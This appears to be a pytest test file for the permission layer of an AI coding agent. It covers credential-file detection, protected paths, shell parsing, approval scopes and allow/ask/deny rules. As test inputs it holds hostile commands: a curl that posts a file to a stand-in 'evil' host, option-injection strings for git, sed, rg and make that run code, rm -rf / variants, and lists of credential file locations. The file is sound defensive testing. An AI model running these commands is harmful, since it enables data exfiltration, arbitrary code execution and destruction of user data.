"""kimi_acp/permissions: what is sensitive or protected, how a command line splits, what a session
approval covers, and how `[permissions]` rules decide."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from kimi_acp.config import ConfigError, load_config
from kimi_acp.permissions.protected import protected_reason
from kimi_acp.permissions.rules import Rules
from kimi_acp.permissions.scope import action_scope, command_scope, host_scope, path_scope
from kimi_acp.permissions.sensitive import register_sensitive_file, sensitive_reason
from kimi_acp.permissions.shell_parse import parse_line

# ------------------------------------------------------------------------------------ sensitive


@pytest.mark.parametrize(
    "rel",
    [".env", ".env.local", "prod.env", "config/id_rsa", "certs/server.pem", "tls.key", "keystore.p12", ".netrc",
     ".npmrc", ".pypirc", ".git-credentials", ".aws/credentials", ".kimi/credentials/kimi-code.json"],
)
def test_credential_files_anywhere(tmp_path: Path, rel: str) -> None:
    assert sensitive_reason(tmp_path / rel) is not None


@pytest.mark.parametrize("rel", [".env.example", ".env.template", "id_rsa.pub", "environment.py", "src/key.py", "notes.txt"])
def test_ordinary_files(tmp_path: Path, rel: str) -> None:
    assert sensitive_reason(tmp_path / rel) is None


def test_the_agents_own_files_and_home_credentials(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    share = Path(os.environ["KIMI_SHARE_DIR"])
    for rel in ("config.toml", "mcp.json", "credentials/kimi-code.json", "mcp-oauth/x/tokens.json", "plugins/p/config.json",
                "logs/kimi.log", "sessions/abc/def/context.jsonl"):
        assert sensitive_reason(share / rel) is not None, rel
    for rel in ("skills/a/SKILL.md", "plans/plan.md"):
        assert sensitive_reason(share / rel) is None, rel
    monkeypatch.setenv("HOME", str(tmp_path))
    for rel in (".ssh/id_ed25519", ".ssh/some_key", ".docker/config.json", ".kube/config", ".config/gh/hosts.yml",
                ".config/gcloud/application_default_credentials.json", ".gnupg/private-keys-v1.d/x.key"):
        assert sensitive_reason(tmp_path / rel) is not None, rel
    for rel in (".ssh/id_ed25519.pub", ".ssh/known_hosts", ".ssh/config", ".bashrc"):
        assert sensitive_reason(tmp_path / rel) is None, rel


def test_a_symbolic_link_does_not_hide_a_credential(tmp_path: Path) -> None:
    secret = tmp_path / "elsewhere" / ".env"
    secret.parent.mkdir()
    secret.write_text("KEY=1\n")
    link = tmp_path / "project" / "notes.txt"
    link.parent.mkdir()
    link.symlink_to(secret)
    assert sensitive_reason(link) is not None
    config = tmp_path / "my-config.toml"
    assert sensitive_reason(config) is None
    register_sensitive_file(config)
    assert sensitive_reason(config) is not None


def test_protected_paths(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", str(tmp_path))
    share = Path(os.environ["KIMI_SHARE_DIR"])
    for path in (share / "config.toml", tmp_path / ".bashrc", tmp_path / ".zshrc", tmp_path / ".profile",
                 tmp_path / ".ssh" / "authorized_keys", tmp_path / "repo" / ".git" / "hooks" / "pre-commit",
                 tmp_path / "repo" / ".git" / "config", tmp_path / ".config" / "fish" / "config.fish"):
        assert protected_reason(path) is not None, path
    for path in (tmp_path / "repo" / "src" / "a.py", tmp_path / "notes" / "todo.md", tmp_path / "repo" / "config"):
        assert protected_reason(path) is None, path
    for path in (tmp_path / ".bash_aliases", tmp_path / ".config" / "systemd" / "user" / "x.service",
                 tmp_path / ".config" / "autostart" / "x.desktop", tmp_path / ".config" / "nvim" / "init.lua",
                 tmp_path / ".vimrc", tmp_path / "Library" / "LaunchAgents" / "x.plist"):  # runs later by itself
        assert protected_reason(path) is not None, path
    assert "runs by itself later" in (protected_reason(tmp_path / ".config" / "systemd" / "user" / "x.service") or "")


def test_the_start_up_cache_is_protected_wherever_it_is(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """What `$KIMI_CACHE_DIR` holds runs at every start (_compat/generated_code.py): an edit there
    always asks, also when the variable puts it outside the share dir."""
    monkeypatch.setenv("KIMI_CACHE_DIR", str(tmp_path / "elsewhere" / "cache"))
    reason = protected_reason(tmp_path / "elsewhere" / "cache" / "generated-code-0123.marshal")
    assert reason is not None and "start-up cache" in reason
    assert protected_reason(tmp_path / "elsewhere" / "notes.md") is None
    monkeypatch.delenv("KIMI_CACHE_DIR")
    assert protected_reason(Path(os.environ["KIMI_SHARE_DIR"]) / "cache" / "x.marshal") is not None


def test_all_of_gits_metadata_is_protected(tmp_path: Path) -> None:
    """Issue #30: a planted `commondir` (or `config.worktree`, a `.git` file pointing elsewhere)
    runs code at the next git command as surely as a hook does."""
    repo = tmp_path / "repo"
    for rel in (".git/commondir", ".git/config.worktree", ".git/info/attributes", ".git", ".git/HEAD",
                ".git/worktrees/wt/commondir", ".git/modules/lib/config", "vendor/lib/.git", ".GIT/commondir"):
        assert "git's metadata" in (protected_reason(repo / rel) or ""), rel
    assert "a git hook" in (protected_reason(repo / ".git" / "hooks" / "pre-commit") or "")
    assert "git configuration" in (protected_reason(repo / ".git" / "config") or "")
    for rel in (".gitignore", ".github/workflows/ci.yml", "src/git/config", "notes.git.md"):
        assert protected_reason(repo / rel) is None, rel
    (repo / "meta").parent.mkdir(parents=True)
    (repo / "meta").symlink_to(repo / ".git")  # where it really leads
    assert protected_reason(repo / "meta" / "commondir") is not None


# ------------------------------------------------------------------------------- command lines


@pytest.mark.parametrize(
    ("line", "commands", "complex_"),
    [
        ("git status -s", [("git", "status", "-s")], False),
        ("echo x && rm -rf y", [("echo", "x"), ("rm", "-rf", "y")], False),
        ("ls | grep a; pwd", [("ls",), ("grep", "a"), ("pwd",)], False),
        ("make 2>&1 | tee log", [("make",), ("tee", "log")], False),
        ("echo hi 2>/dev/null", [("echo", "hi")], False),
        ('echo "a && b"', [("echo", "a && b")], False),
        ("echo hi > out.txt", [("echo", "hi")], True),
        ("cat $(whoami)", [("whoami",), ("cat", "$(whoami)")], True),
        ("cat `whoami`", [("whoami",), ("cat", "`whoami`")], True),
        ("FOO=1 npm test", [("npm", "test")], True),
        ("(cd a && ls)", [("cd", "a"), ("ls",)], True),
        ("echo 'unclosed", None, True),
        # issue #29: glued punctuation is no longer one word
        ("echo harmless;(touch X;)", [("echo", "harmless"), ("touch", "X")], True),
        ("echo harmless|(touch X;)", [("echo", "harmless"), ("touch", "X")], True),
        ("echo harmless&&(touch X;)", [("echo", "harmless"), ("touch", "X")], True),
        ("echo harmless x >| ../elsewhere/file", [("echo", "harmless", "x")], True),
    ],
)
def test_command_lines_are_read_as_bash_reads_them(line: str, commands: list | None, complex_: bool) -> None:
    parsed = parse_line(line)
    assert parsed.complex is complex_
    if commands is not None:
        assert [c.values for c in parsed.commands] == commands


# -------------------------------------------------------------------------------------- scopes


def approved(*scopes: object) -> list[str]:
    return [key for scope in scopes for key in scope.keys()]  # type: ignore[attr-defined]  # noqa: SIM118 (a Scope, not a dict)


@pytest.fixture
def scope_of(tmp_path: Path):
    def make(command: str, action: str = "run command"):
        return command_scope(action, command, tmp_path, {"HOME": str(tmp_path), "PATH": os.environ["PATH"]})

    return make


def test_a_command_form_covers_that_form_only(scope_of) -> None:
    status = scope_of("git status")
    assert status.label == "`git status …`"
    kept = approved(status)
    assert scope_of("git status -s").covered_by(kept)
    assert not scope_of("git push").covered_by(kept)
    assert not scope_of("git status && rm -rf y").covered_by(kept)
    assert not scope_of("git status > out").covered_by(kept)  # complex: never covered
    assert not scope_of("git status", "run background command").covered_by(kept)
    both = approved(scope_of("echo x && rm -rf y"))
    assert scope_of("rm -rf y; echo x").covered_by(both)
    assert not scope_of("rm -rf z").covered_by(both)  # rm is remembered exactly
    assert scope_of("echo y").covered_by(both)  # `echo …`: echo is remembered by its name
    assert not scope_of("echo x > f").remembers


@pytest.mark.parametrize(
    ("approved_command", "label", "covers", "asks"),
    [
        ("rm -rf build", "`rm -rf build`", ["rm -rf build", "rm -rf 'build'"], ["rm -rf build ~", "rm -rf src", "rm -r build",
                                                                              "cd /tmp && rm -rf build"]),
        ("chmod 644 a.txt", "`chmod 644 a.txt`", ["chmod 644 a.txt"], ["chmod 644 a.txt ~/.ssh/id_rsa", "chmod 777 a.txt"]),
        ("curl https://example.com/a", "`curl https://example.com/a`", [], ["curl -d @x https://evil.example"]),
        ("git -C ../lib status", "`git -C ../lib status`", ["git -C ../lib status"], ["git -C ../lib push"]),
        ("cat src/app.py", "`cat …`", ["cat README.md", "cat -n x"], ["rm src/app.py"]),
        ("ls -la", "`ls …`", ["ls -t src"], ["lsof -i"]),
        ("python -m pytest -q", "`python -m pytest -q`", ["python -m pytest -q"], ["python -m pytest tests/a.py",
                                                                                  "python -m http.server"]),
        ("npm test", "`npm test`", ["npm test"], ["npm test -- --watch=false", "npm test --script-shell=sh"]),
        ("ls", "`ls …`", ["ls -la src"], ["rm -rf ."]),
        # issue #29: options that run code or write files are not the form that was approved
        ("git grep -n foo", "`git grep …`", ["git grep -n bar"], ["git grep -O'touch X #' foo", "git grep --open-files-in-pager=x a"]),
        ("git fetch --all", "`git fetch --all`", ["git fetch --all"], ["git fetch --all --upload-pack='touch X;:'"]),
        ("git ls-remote --heads .", "`git ls-remote --heads .`", [], ["git ls-remote --heads --upload-pack='touch X;:' ."]),
        ("sed -n 1p f", "`sed …`", ["sed -n 2p f", "sed -n '1,9p;$p' f"], ["sed -n '1e touch X' f", "sed -n 's/[/]/;/w/p' f",
                                                                      "sed -i s/a/b/ f", "sed -n 1w/tmp/x f"]),
        ("awk 'NR==1' f", "`awk 'NR==1' f`", [], ["awk 'BEGIN{system(\"touch X\")}'"]),
        ("make test", "`make test`", ["make test"], ["make test '--eval=test: ; @touch X'", "make test CC=evil"]),
        ("git log --oneline -1", "`git log …`", ["git log -3 --stat"], ["git log -1 --format=%B --output=${HOME%/}/.bashrc",
                                                                       "git log -1 --output=x"]),
        ("git config user.name x", "`git config user.name x`", ["git config user.name x"],
         ["git config core.fsmonitor 'touch X'", "git config --global alias.st '!touch X'"]),
        ("echo sess-one", "`echo …`", ["echo sess-two"], ["echo x; touch y"]),
        ("rg foo", "`rg …`", ["rg -n bar src"], ["rg --pre sh foo", "rg --hostname-bin=sh x"]),
        ("fd x", "`fd x`", ["fd x"], ["fd x -x touch", "fd -X rm x"]),
        ("find . -name '*.py'", "`find …`", ["find src -type f"], ["find . -exec rm {} +", "find . -delete", "find . -fprint x"]),
    ],
)
def test_what_an_approved_command_covers(scope_of, approved_command: str, label: str, covers: list[str], asks: list[str]) -> None:
    scope = scope_of(approved_command)
    assert scope.label == label
    kept = approved(scope) if scope.remembers else []
    for command in covers:
        assert scope_of(command).covered_by(kept), command
    for command in asks:
        assert not scope_of(command).covered_by(kept), command


@pytest.mark.parametrize(
    "command",
    [
        'bash -c "ls"', "sh -lc 'make'", "python3 -c 'print(1)'", "python3.12 -Bc 'x'", "node -e 'x'",
        "node --eval=x", "perl -ne 'print' f", "ruby -e x", "deno eval x", "eval ls", "source env.sh",
        "sudo make install", "env FOO=1 make", "timeout 5 make", "nohup make", "xargs rm",
        "find . -name '*.pyc' -delete", "find . -exec rm {} +", "git -c core.pager=sh log", "/usr/bin/env make",
        "uv run pytest -q", "uvx ruff", "poetry run x", "pipx run x", "npx x", "npm exec x", "pnpm dlx x", "yarn dlx x",
        "bunx x", "go run .", "cargo run", "docker run x", "docker exec x sh", "kubectl exec x", "conda run x",
        "pdm run x", "hatch run x", "bundle exec x", "nix run x", "direnv exec . x", "mise exec x",
        "git submodule foreach x", "git difftool -x x", "awk '{print}' f",
    ],
)
def test_a_command_that_runs_whatever_it_is_told_is_never_remembered_or_covered(scope_of, command: str) -> None:
    scope = scope_of(command)
    assert not scope.remembers, command
    assert not scope.covered_by([*approved(scope_of(command.split()[0])), f"run command:exactly={command}"])


def test_legacy_entries_cover_no_more_than_they_said(scope_of) -> None:
    assert not scope_of("ls").covered_by(["run command"])
    assert not scope_of("rm -rf x").covered_by(["run command:rm"])  # an older prefix
    assert not scope_of("git -C x push").covered_by(["run command:git"])
    assert scope_of("ls -la").covered_by(["run command:ls"])
    assert not scope_of("npm test --script-shell=sh").covered_by(["run command:npm test"])  # an older prefix
    assert not scope_of("python -m pytest -p evil").covered_by(["run command:python -m pytest"])
    assert scope_of("rm -rf build").covered_by(["run command:exactly=rm -rf build"])
    assert action_scope("edit file").covered_by(["edit file"])


def test_an_exact_entry_is_the_words_bash_sees(scope_of) -> None:
    kept = approved(scope_of("rm -rf 'my dir'"))
    assert scope_of('rm -rf "my dir"').covered_by(kept) and scope_of("rm -rf my\\ dir").covered_by(kept)
    literal = approved(scope_of("rm -rf '$HOME'"))  # a directory named $HOME
    assert not scope_of("rm -rf $HOME").covered_by(literal)
    assert not scope_of("rm -rf '$HOME'").covered_by(approved(scope_of("rm -rf $HOME")))


def test_a_glob_that_would_become_an_option_is_not_covered(scope_of, tmp_path: Path) -> None:
    kept = approved(scope_of("sort a.txt"))
    (tmp_path / "a.txt").write_text("b\na\n")
    assert scope_of("sort *").covered_by(kept)
    (tmp_path / "--compress-program=sh").write_text("")  # a file a cloned repository can ship
    assert not scope_of("sort *").covered_by(kept)
    assert scope_of("sort -- *").covered_by(kept)


def test_a_directory_scope_covers_below_it_not_beside_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", str(tmp_path))
    notes = tmp_path / "notes"
    kept = approved(path_scope("edit file outside of working directory", notes / "a.md"))
    assert kept == [f"edit file outside of working directory:{notes}"]
    assert path_scope("edit file outside of working directory", notes / "sub" / "b.md").covered_by(kept)
    assert not path_scope("edit file outside of working directory", tmp_path / "other" / "c.md").covered_by(kept)
    assert not path_scope("edit file outside of working directory", tmp_path / ".bashrc").covered_by(kept)
    in_home = path_scope("edit file outside of working directory", tmp_path / "todo.txt")
    assert in_home.kind == "file"  # the home directory itself is never approved wholesale
    assert not path_scope("edit file outside of working directory", tmp_path / ".bashrc").covered_by(approved(in_home))
    assert path_scope("edit file outside of working directory", tmp_path / "todo.txt").covered_by(approved(in_home))


def test_a_host_scope_is_that_host_and_port() -> None:
    kept = approved(host_scope("fetch from the network", "docs.python.org"))
    assert host_scope("fetch from the network", "docs.python.org").covered_by(kept)
    assert not host_scope("fetch from the network", "evil.example").covered_by(kept)
    assert not host_scope("fetch from the network", "docs.python.org:8080").covered_by(kept)


# --------------------------------------------------------------------------------------- rules


def rules(**table: list[str]) -> Rules:
    return Rules.from_config(load_config(config_text=_toml(table)).config)


def _toml(table: dict[str, list[str]]) -> str:
    lines = ["[permissions]"] + [f"{key} = {value!r}".replace("'", '"') for key, value in table.items()]
    return "\n".join(lines) + "\n"


def decider(r: Rules, tmp_path: Path):
    def decide(line: str) -> str | None:
        decision = r.decide("Shell", command_scope("run command", line, tmp_path, {}), tmp_path)
        return decision.verdict if decision else None

    return decide


def test_deny_wins_over_ask_and_allow(tmp_path: Path) -> None:
    r = rules(allow=["Shell(git:*)"], ask=["Shell(git push:*)"], deny=["Shell(git push --force:*)"])
    decide = decider(r, tmp_path)
    assert decide("git status") == "allow"
    assert decide("git push origin") == "ask"
    assert decide("git push --force origin") == "deny"
    assert decide("npm test") is None


def test_a_command_line_is_allowed_only_when_every_part_is(tmp_path: Path) -> None:
    r = rules(allow=["Shell(git status:*)", "Shell(npm test)"], deny=["Bash(rm:*)"])
    decide = decider(r, tmp_path)
    assert decide("git status && npm test") == "allow"
    assert decide("npm test --watch") is None  # exact: only that command
    assert decide("git status && curl x") is None
    assert decide("git status > out") is None  # complex: never allowed by a rule
    assert decide("git status;(curl x;)") is None
    assert decide("echo a && rm -rf /") == "deny"
    assert decide("cat $(rm -rf /)") == "deny"  # denied even inside what cannot be judged
    assert decide("echo a;(rm -rf /;)") == "deny"
    assert decide("r\\m -rf /") == "deny" and decide("'rm' -rf /") == "deny" and decide("$'rm' -rf /") == "deny"
    assert decide("sudo rm -rf /") == "deny" and decide("xargs rm < list") == "deny"
    assert decide("bash -c 'echo a; rm -rf /'") == "deny" and decide("sh -c \"sh -c 'rm x'\"") == "deny"
    assert decide("$CMD -rf /") == "ask"  # a program the agent cannot read: it may be rm


def test_path_host_and_tool_rules(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", str(tmp_path))
    r = rules(
        allow=["WriteFile(src/**)", "FetchURL(domain:*.python.org)", "mcp:github:*"],
        deny=["Read(secrets/**)", "Edit(~/notes/*.md)", "mcp__github__delete_repository"],
    )
    work = tmp_path / "project"
    edit = action_scope("edit file", path=work / "src" / "a" / "b.py")
    assert r.decide("WriteFile", edit, work).verdict == "allow"
    assert r.decide("StrReplaceFile", edit, work) is None
    assert r.decide("Grep", path_scope("x", work / "secrets" / "k.txt"), work).verdict == "deny"
    assert r.decide("StrReplaceFile", action_scope("x", path=tmp_path / "notes" / "todo.md"), work).verdict == "deny"
    assert r.decide("FetchURL", host_scope("x", "docs.python.org"), work).verdict == "allow"
    assert r.decide("FetchURL", host_scope("x", "python.org.evil.com"), work) is None
    assert r.decide("mcp:github:list_issues", None, work).verdict == "allow"
    assert r.decide("mcp:github:delete_repository", None, work).verdict == "deny"


def test_a_malformed_rule_is_a_one_line_config_error() -> None:
    with pytest.raises(ConfigError, match=r"permissions\.deny.*not a rule"):
        load_config(config_text='[permissions]\ndeny = ["Shell(rm"]\n')
